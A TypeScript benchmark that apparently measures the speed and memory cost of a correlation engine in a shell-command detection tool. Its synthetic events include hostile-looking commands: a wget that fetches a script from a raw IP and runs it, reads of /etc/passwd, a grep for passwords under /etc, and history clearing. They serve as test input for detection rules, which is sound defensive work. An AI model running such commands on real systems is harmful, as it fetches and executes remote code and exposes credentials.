/**
 * Cost of correlation rules next to single-event rules, one core:
 * `npm run build && node --expose-gc dist/bench/correlation.bench.js` (from the
 * repository root). Standalone (bench/run.ts is the rule-set benchmark).
 *
 * - events/s of the default single-event rules alone (the baseline), then of the
 *   same plus the correlation engine running rules/correlation/ on every event;
 *   the ratio is the claim, absolute numbers depend on the machine;
 * - memory per thousand active keys: heap growth (with --expose-gc) and checkpoint
 *   size (JSON of the keys) after filling an engine with keys that each hold a
 *   partial sequence.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { CorrelationEngine } from '../src/core/correlation';
import type { CommandEvent } from '../src/core/event';
import { loadRuleSet } from '../src/core/rules';
import type { SourceFile } from '../src/core/rules';

const ROOT = join(process.cwd(), 'rules');
const MEASURE_MS = 3000;
const BASE = Date.parse('2026-03-01T00:00:00.000Z');

function jsonFiles(dir: string): SourceFile[] {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.json'))
    .map((entry) => join(entry.parentPath, entry.name))
    .map((path) => ({ path: relative(ROOT, path), text: readFileSync(path, 'utf8') }))
    .filter((file) => !file.path.startsWith('schema/'));
}

const COMMANDS = [
  'ls -la /var/log',
  'sudo systemctl restart nginx',
  'whoami',
  'id',
  'uname -a',
  'cat /etc/passwd',
  'wget http://203.0.113.7/x.sh -O /tmp/x.sh',
  'chmod +x /tmp/x.sh',
  '/tmp/x.sh',
  'kubectl -n prod get pods -o wide',
  'grep -R "password" /etc 2>/dev/null',
  'history -c',
  'git status',
  'vim /etc/nginx/nginx.conf',
];

function makeEvents(count: number, sessions: number): CommandEvent[] {
  return Array.from({ length: count }, (_, i): CommandEvent => {
    const command = COMMANDS[(i * 7) % COMMANDS.length] ?? 'ls';
    return {
      '@timestamp': new Date(BASE + i * 50).toISOString(),
      user: { name: `user${i % 50}` },
      host: { name: `host${i % 20}` },
      session: { id: `s${i % sessions}` },
      process: { command_line: command, exit_code: i % 5 === 0 ? 1 : 0 },
      event: { original: command },
      log: { source: 'bench' },
    };
  });
}

function rate(run: (i: number) => void): number {
  const warm = performance.now() + MEASURE_MS / 5;
  let i = 0;
  while (performance.now() < warm) run(i++);
  const start = performance.now();
  let n = 0;
  while (performance.now() - start < MEASURE_MS) run(n++);
  return n / ((performance.now() - start) / 1000);
}

function heapUsed(): number {
  (globalThis as { gc?: () => void }).gc?.();
  return process.memoryUsage().heapUsed;
}

function main(): void {
  const files = jsonFiles(ROOT);
  const result = loadRuleSet(
    files.filter((f) => !f.path.startsWith('lists/')),
    files.filter((f) => f.path.startsWith('lists/')),
  );
  if (!result.ok) throw new Error(`rules do not load: ${JSON.stringify(result.errors[0])}`);
  const correlationRules = result.rules.filter((r) => r.correlation !== undefined);
  const events = makeEvents(20_000, 500);
  const pick = (i: number): CommandEvent => events[i % events.length]!;

  // A fresh object per evaluation, as decoding gives: parsed facts live as long as the event object.
  const single = rate((i) => {
    result.evaluator.evaluate({ ...pick(i) });
  });
  let engine = new CorrelationEngine(result.rules, { graceMs: 60_000, maxKeys: 100_000 });
  let offset = 0;
  const both = rate((i) => {
    // Timestamps keep increasing across laps so windows expire as in a stream.
    const base = pick(i);
    const lap = Math.floor(i / events.length);
    const event = {
      ...base,
      '@timestamp': new Date(Date.parse(base['@timestamp']) + lap * 1_000_000).toISOString(),
    };
    engine.process(event, { id: `b:0:${offset++}` }, result.evaluator.evaluate(event));
    if (i % 1000 === 0) engine.expire();
  });

  // Memory: 10,000 keys, each a sequence waiting for its second and third step.
  const keys = 10_000;
  engine = new CorrelationEngine(correlationRules, { graceMs: 60_000, maxKeys: 1_000_000 });
  const before = heapUsed();
  for (let k = 0; k < keys; k += 1) {
    const command = 'wget http://203.0.113.7/x.sh -O /tmp/x.sh';
    engine.process(
      {
        '@timestamp': new Date(BASE + k).toISOString(),
        host: { name: 'h1' },
        session: { id: `session-${k}` },
        process: { command_line: command },
        event: { original: command },
        log: { source: 'bench' },
      },
      { id: `shell.commands:0:${k}` },
    );
  }
  const after = heapUsed();
  const snapshot = JSON.stringify(engine.takeChanges().updated);
  const gcOn = typeof (globalThis as { gc?: unknown }).gc === 'function';
  const lines = [
    `correlation rules: ${correlationRules.length}, single-event rules: ${result.evaluator.ruleCount}`,
    `single-event rules alone:            ${Math.round(single).toLocaleString('en')} events/s (baseline 1.00)`,
    `single-event + correlation engine:   ${Math.round(both).toLocaleString('en')} events/s (${(both / single).toFixed(2)} of baseline)`,
    `active keys: ${engine.keyCount}; heap per 1,000 keys: ${gcOn ? `${((after - before) / keys).toFixed(0)} KB` : 'run with --expose-gc'}; checkpoint JSON per 1,000 keys: ${(snapshot.length / keys).toFixed(0)} KB`,
  ];
  process.stdout.write(`${lines.join('\n')}\n`);
}

main();
